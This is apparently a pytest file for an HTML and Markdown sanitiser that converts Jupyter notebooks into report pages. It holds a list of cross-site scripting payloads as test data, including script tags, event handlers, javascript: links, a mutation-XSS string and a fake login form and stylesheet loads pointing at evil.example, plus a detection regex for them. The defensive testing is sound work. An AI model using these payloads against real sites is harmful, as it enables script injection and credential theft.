"""What of a notebook may stand in a report: attacks go, content stays."""

import re

import pytest

from fer_kit.course.safe_html import Markdown, count_undescribed, formula, sanitise, terminal

PNG = "data:image/png;base64,iVBORw0KGgo="

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{PNG}" onload="alert(1)" alt="a">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)">x</a><style>@import "https://evil.example"</style>',
    '<div style="background: url(https://evil.example/a.png)">x</div>',
    '<td style="text-align: url(https://evil.example/a.png)">x</td>',
    "<style>@import url(https://evil.example/a.css);</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4"></video>',
    '<picture><source srcset="https://evil.example/a.png"><img alt="a"></picture>',
    '<img alt="a" src="//evil.example/a.png">',
    '<img alt="a" src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img alt="<script>alert(1)</script>" src="https://evil.example/a.png">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)"><mi style="background:url(https://evil.example)">x</mi></math>',
    '<details ontoggle="alert(1)" open><summary>x</summary></details>',
    '<div class="banner synthetic">Synthetic faces</div>',
]

DANGEROUS = re.compile(
    r"<(script|style|svg|iframe|meta|base|form|input|button|object|embed|video|link|mglyph)"
    r"|<[^>]*\s(on\w+|srcset|srcdoc|poster)="
    r'|<[^>]*\s(src|href|style)="[^"]*(javascript:|evil\.example|svg|text/html)'
    r'|class="banner',
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_do_not_get_through_html_or_markdown(attack):
    for html in (sanitise(attack), Markdown().convert(f"Before.\n\n{attack}\n\nx {attack} y\n")):
        assert not DANGEROUS.search(html), html


@pytest.mark.parametrize(
    "attack",
    [
        "[x](javascript:alert(1))",
        "![x](https://evil.example/a.png)",
        '<jav&#x61;script:alert("x")>',
    ],
)
def test_attacks_in_the_syntax_of_markdown(attack):
    assert not DANGEROUS.search(Markdown().convert(attack))


def test_the_attacks_are_recognised_when_nothing_is_taken_out():
    missed = [attack for attack in ATTACKS if not DANGEROUS.search(attack)]
    # These do harm only through what a browser makes of them.
    assert len(missed) <= 3, missed


def test_content_stays():
    html = sanitise(
        '<h2>Results</h2><table><thead><tr style="text-align: right;"><th scope="col">a</th></tr>'
        '</thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
        f'<img src="{PNG}" alt="A face">'
        "<details><summary>Hint</summary>look</details>"
        '<a href="https://keras.io">Keras</a> <a href="#Results">above</a>'
    )
    for kept in (
        "<h2>Results</h2>",
        '<tr style="text-align: right;">',
        '<th scope="col">a</th>',
        '<td colspan="2">1</td>',
        f'<img src="{PNG}" alt="A face">',
        "<summary>Hint</summary>",
        'href="https://keras.io"',
        'href="#Results"',
    ):
        assert kept in html


def test_pandas_keeps_its_table_and_loses_its_style():
    import pandas as pd

    html = sanitise(pd.DataFrame({"happy": [1]})._repr_html_())
    assert "<th>happy</th>" in html.replace(' scope="col"', "")
    assert "vertical-align" not in html


def test_badges_keep_their_text_and_load_nothing():
    badge = "https://colab.research.google.com/assets/colab-badge.svg"
    in_markdown = f"[![Open in Colab]({badge})](https://colab.research.google.com/x)"
    in_html = f'<a href="https://mybinder.org/x"><img src="{badge}" alt="Launch in Binder"></a>'
    html = Markdown().convert(f"{in_markdown} {in_html}")
    assert "<img" not in html
    assert re.search(r'<a href="https://colab[^>]*>Open in Colab</a>', html)
    assert re.search(r'<a href="https://mybinder[^>]*>Launch in Binder</a>', html)


def test_links_between_notebooks_lead_to_their_pages():
    html = Markdown(pages=["03_preprocess"]).convert(
        "[a](03_preprocess.ipynb#Split) [b](./03_preprocess.ipynb) "
        "[c](05_cnn.ipynb) [d](../README.md)"
    )
    assert re.findall(r'href="([^"]*)"', html) == ["03_preprocess.html#Split", "03_preprocess.html"]


def test_attachments_are_embedded():
    attachments = {"face.png": {"image/png": "iVBORw0KGgo="}}
    html = Markdown().convert(
        "![A face](attachment:face.png) ![Gone](attachment:no.png)", attachments
    )
    assert f'<img src="{PNG}" alt="A face"' in html
    assert "Gone" in html
    assert html.count("<img") == 1


@pytest.mark.parametrize(
    ("latex", "expected"),
    [
        (r"\frac{a}{b}", "<mfrac>"),
        (r"\sqrt{x}", "<msqrt>"),
        (r"x_i^2", "<msubsup>"),
        (r"\sum_{i=1}^K p_i", "∑"),
        (r"\begin{pmatrix}a&b\\c&d\end{pmatrix}", "<mtable>"),
    ],
)
def test_formulas_become_mathml(latex, expected):
    for source in (f"${latex}$", f"$${latex}$$", f"Text.\n\n$$\n{latex}\n$$\n"):
        html = Markdown().convert(source)
        assert "<math" in html
        assert expected in html
        assert "$" not in html


def test_display_formulas_stand_on_their_own_line():
    assert 'display="block"' in Markdown().convert("$$x$$")
    assert 'display="block"' in Markdown().convert(r"\begin{align}a&=b\\c&=d\end{align}")
    assert 'display="inline"' in Markdown().convert("$x$")


@pytest.mark.parametrize("latex", [r"\nosuchcommand{x}", r"\frac{1", r"x_{", r"\left( x", "a<b{"])
def test_a_formula_that_cannot_be_converted_shows_its_source(latex):
    assert formula(latex).startswith("<code>")
    assert sanitise(formula(latex)).unescape() == f"<code>{latex}</code>"


def test_a_formula_cannot_carry_a_script():
    html = Markdown().convert(
        r"$\href{javascript:alert(1)}{x} \style{background:url(//e)}{y}$ $a<script>$"
    )
    assert not DANGEROUS.search(html)


def test_headings_are_collected_and_their_ids_differ():
    markdown = Markdown()
    html = markdown.convert("# LeNet-5\n\n## The *loss* $L$\n\n### Setup") + markdown.convert(
        "## Setup\n## content"
    )
    anchors = re.findall(r'<h\d id="([^"]+)">', html)
    assert [(level, text) for level, _, text in markdown.headings][:2] == [
        (1, "LeNet-5"),
        (2, "The loss L"),
    ]
    assert anchors == [anchor for _, anchor, _ in markdown.headings]
    assert len(set(anchors) | {"content"}) == 6


def test_a_terminal_s_text_is_text():
    html = terminal("\x1b[1mbold\x1b[0m <script>alert(1)</script> \x1b[38;5;208morange\x1b[0m")
    assert '<span class="ansi-bold">bold</span>' in html
    assert "&lt;script&gt;" in html
    assert "style=" not in html


def test_undescribed_pictures_are_counted():
    assert count_undescribed(f'<img src="{PNG}" alt="A face"><img alt="x &gt; y" src="{PNG}">') == 0
    assert (
        count_undescribed(f'<img src="{PNG}"> <img src="{PNG}" alt=""/> <img src="{PNG}" alt="a">')
        == 2
    )


def test_no_cell_of_a_table_brings_a_style_but_its_alignment():
    attack = "text-align: right; background: url(https://evil.example/a.png); position: fixed"
    html = f'<table><tr><th style="{attack}">a</th><td style="{attack}">b</td></tr></table>'
    cleaned = str(sanitise(html))
    assert "<td" in cleaned
    assert "evil" not in cleaned
    assert "position" not in cleaned
